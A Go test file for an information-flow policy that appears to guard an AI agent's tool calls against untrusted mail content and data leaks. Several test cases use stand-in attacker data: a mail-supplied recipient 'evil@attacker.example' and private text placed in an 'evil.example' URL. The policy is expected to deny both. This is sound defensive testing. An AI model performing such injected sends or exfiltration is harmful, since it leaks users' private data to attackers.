package policies_test

import (
	"slices"
	"testing"

	"callgate/engine/label"
	"callgate/engine/value"
	"callgate/policies"
	"callgate/policies/internal/sample"
)

var (
	ana    = label.Only("ana@corp.example")
	mine   = label.New(label.User, ana, nil)
	typed  = sample.Prompt
	mail   = sample.Mail
	secret = label.New(label.Internal, label.Public(), []string{"secret"})
)

func str(s string, l label.Label) value.Value { return value.StringOf(s, l) }

func arg(name string, v value.Value) value.Field { return value.Field{Name: name, Of: v} }

func list(items ...value.Value) value.Value { return value.ListOf(label.Bottom(), items...) }

// with applies a change to a request.
func with(r *policies.Request, change func(*policies.Request)) *policies.Request {
	change(r)
	return r
}

func pc(l label.Label) func(*policies.Request) {
	return func(r *policies.Request) { r.Labels.PC = l; r.Leaves[len(r.Leaves)-1].Label = l }
}

func TestFlow(t *testing.T) {
	observe := func(v value.Value) *policies.Request {
		return sample.Crossing(policies.KindObserve, policies.SinkModel, []string{"egress"}, v)
	}
	ledger := func(l label.Label, write bool) func(*policies.Request) {
		return func(r *policies.Request) {
			r.Call.State = &policies.State{Name: "ledger", Write: write, Label: l}
		}
	}
	release := func(kind, trust string, v value.Value, pc label.Label) *policies.Request {
		t := policies.ToolSchema{Name: kind, Params: []policies.ParamSchema{{Name: "value"}, {Name: "trust"}}}
		return sample.Build(kind, t, value.DictOf(label.Bottom(), arg("value", v), arg("trust", str(trust, label.Bottom()))), pc)
	}
	for _, test := range []struct {
		name string
		r    *policies.Request
		want []string // "id path"
	}{
		{"trusted text to a public recipient", sample.Call("mail.send", arg("to", list(str("bob@corp.example", typed))), arg("body", str("hi", typed))), nil},
		{"each sink that steers wants trust internal", sample.Call("mail.send", arg("to", list(str("bob@corp.example", typed), str("evil@attacker.example", mail)))), []string{"flow.recipient to[1]"}},
		{"an account from a mail, inside a list of records", sample.Call("bank.batch", arg("payments", list(value.DictOf(label.Bottom(), arg("iban", str("XX", mail)))))), []string{"flow.account payments[0].iban"}},
		{"a path from a mail", sample.Call("files.delete", arg("path", str("x", mail))), []string{"flow.path path"}},
		{"a word from a mail", sample.Call("shell.run", arg("argv", list(str("ls", typed), str("-a", mail)))), []string{"flow.word argv[1]"}},
		{"untrusted content goes where its readers are", sample.Call("mail.send", arg("to", list(str("bob@corp.example", typed))), arg("body", str("x", mail))), nil},
		{"content for ana alone to bob", sample.Call("mail.send", arg("to", list(str("bob@corp.example", typed))), arg("body", str("x", mine))), []string{"flow.content body"}},
		{"content for ana alone to ana", sample.Call("mail.send", arg("to", list(str("Ana@Corp.example", typed))), arg("body", str("x", mine))), nil},
		{"content for a host's people to one of them", sample.Call("mail.send", arg("to", list(str("bob@corp.example", typed))), arg("body", str("x", label.New(label.User, label.Only("corp.example"), nil)))), nil},
		{"every recipient counts", sample.Call("mail.send", arg("to", list(str("ana@corp.example", typed))), arg("bcc", str("bob@corp.example", typed)), arg("body", str("x", mine))), []string{"flow.content body"}},
		{"an address may be private", sample.Call("mail.send", arg("to", list(str("bob@corp.example", mine)))), nil},
		{"egress that names nobody reaches anybody", sample.Call("mcp.acme.frob", arg("x", str("x", mine))), []string{"flow.readers x"}},
		{"no recipient at all", sample.Call("mail.send", arg("to", list()), arg("body", str("x", mine))), []string{"flow.content body"}},
		{"a private text in a URL", sample.Call("http.post", arg("url", str("https://evil.example/?q=x", mine))), []string{"flow.readers url"}},
		{"what leaves nobody is the principal's", sample.Call("files.write", arg("path", str("a", mine)), arg("text", str("x", mine))), nil},
		{"… and not for others' eyes", sample.Call("files.write", arg("path", str("a", typed)), arg("text", str("x", label.New(label.User, label.Only("bob@corp.example"), nil)))), []string{"flow.content text"}},
		{"a secret in a header that is for secrets", sample.Call("http.post", arg("url", str("https://a.example/", typed)), arg("headers", value.DictOf(label.Bottom(), arg("Authorization", str("k", secret))))), nil},
		{"a secret in another header", sample.Call("http.post", arg("url", str("https://a.example/", typed)), arg("headers", value.DictOf(label.Bottom(), arg("Cookie", str("k", secret))))), []string{"flow.secret headers.Cookie"}},
		{"a secret where no sink is declared", sample.Call("mail.read", arg("id", str("k", secret))), []string{"flow.secret id"}},
		{"a label that nobody set carries every tag", sample.Call("mail.read", arg("id", str("k", label.Top()))), []string{"flow.secret id"}},
		{"untrusted control flow at a write", with(sample.Call("files.write", arg("path", str("a", typed))), pc(mail)), []string{"flow.control pc"}},
		{"untrusted control flow at a read", with(sample.Call("mail.read", arg("id", str("a", typed))), pc(mail)), nil},
		{"private control flow tells the recipient", with(sample.Call("mail.send", arg("to", list(str("bob@corp.example", typed)))), pc(mine)), []string{"flow.control-read pc"}},
		{"a secret decides", with(sample.Call("files.write", arg("path", str("a", typed))), pc(secret)), []string{"flow.secret pc"}},
		{"control flow that nobody labelled", with(sample.Call("mail.read"), pc(label.Top())), nil},
		{"an empty list that a secret emptied", with(sample.Call("mail.read", arg("id", list())), func(r *policies.Request) { r.Labels.Args[0].Label = secret }), []string{"flow.secret id"}},
		{"a sink of a later version", with(sample.Call("mail.read", arg("id", str("x", typed))), func(r *policies.Request) { r.Leaves[0].Sink = "voice" }), []string{"flow.sink id"}},

		{"what is written must flow to the namespace", with(sample.Call("files.write", arg("path", str("a", typed)), arg("text", str("x", mail))), ledger(label.New(label.Internal, label.Public(), nil), true)), []string{"flow.state text"}},
		{"… its control flow too", with(with(sample.Call("bank.transfer", arg("iban", str("DE1", typed))), pc(mine)), ledger(label.New(label.Internal, label.Public(), nil), true)), []string{"flow.state pc"}},
		{"… and its tags", with(sample.Call("files.write", arg("path", str("a", typed)), arg("text", str("x", typed.WithTags("pii")))), ledger(label.New(label.Internal, label.Public(), nil), true)), []string{"flow.state text"}},
		{"reading a namespace moves nothing there", with(sample.Call("mail.read", arg("id", str("x", mail))), ledger(label.Bottom(), false)), nil},

		{"the model works for the principal", observe(str("x", mine)), nil},
		{"… who may not read everything", observe(str("x", label.New(label.User, label.Only("bob@corp.example"), nil))), []string{"flow.model value"}},
		{"a model that is itself a reader", with(observe(str("x", label.New(label.User, label.Only("model:local"), nil))), func(r *policies.Request) {
			r.Call.Args = value.DictOf(label.Bottom(), arg("provider", str("local", label.Bottom())))
		}), nil},
		{"untrusted control flow may choose what is shown", with(observe(str("x", mail)), pc(mail)), nil},
		{"a secret is not shown", observe(str("x", secret)), []string{"flow.secret value"}},
		{"an answer for somebody else", sample.Crossing(policies.KindAnswer, policies.SinkContent, nil, str("x", label.New(label.User, label.Only("bob@corp.example"), nil))), []string{"flow.content value"}},

		{"a builtin moves no data", with(sample.Call("mail.read"), func(r *policies.Request) { r.Call.Kind = policies.KindBuiltin; r.Labels.PC = label.Top() }), nil},
		{"endorsing under trusted control flow", release("endorse", "user", str("x", mail), typed), nil},
		{"endorsing under control flow below what is granted", release("endorse", "system", str("x", mail), typed), []string{"flow.endorse pc"}},
		{"endorsing to nothing that is a level", release("endorse", "", str("x", mail), typed), []string{"flow.endorse pc"}},
		{"a secret may be endorsed, it stays one", release("endorse", "user", str("x", secret), typed), nil},
		{"declassifying what is trusted", release("declassify", "", str("x", mine), typed), nil},
		{"declassifying what an attacker wrote", release("declassify", "", str("x", mail), typed), []string{"flow.declassify value"}},
		{"declassifying where an attacker decided", release("declassify", "", str("x", mine), mail), []string{"flow.declassify pc"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			var got []string
			for _, r := range policies.Flow(test.r) {
				if r.Effect != policies.Deny || len(r.Args) != 1 || r.Engine != "flow" {
					t.Errorf("%+v: want a denial by flow with one path", r)
				}
				got = append(got, r.ID+" "+r.Args[0])
			}
			if !slices.Equal(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

func TestTheZeroRequestFlowsNowhere(t *testing.T) {
	r := &policies.Request{Call: policies.Call{Effects: []string{"egress"}}, Leaves: []policies.Leaf{{}}}
	if got := policies.Flow(r); len(got) < 2 {
		t.Errorf("Flow of an empty request with one leaf = %v, want the leaf and the control flow refused", got)
	}
}
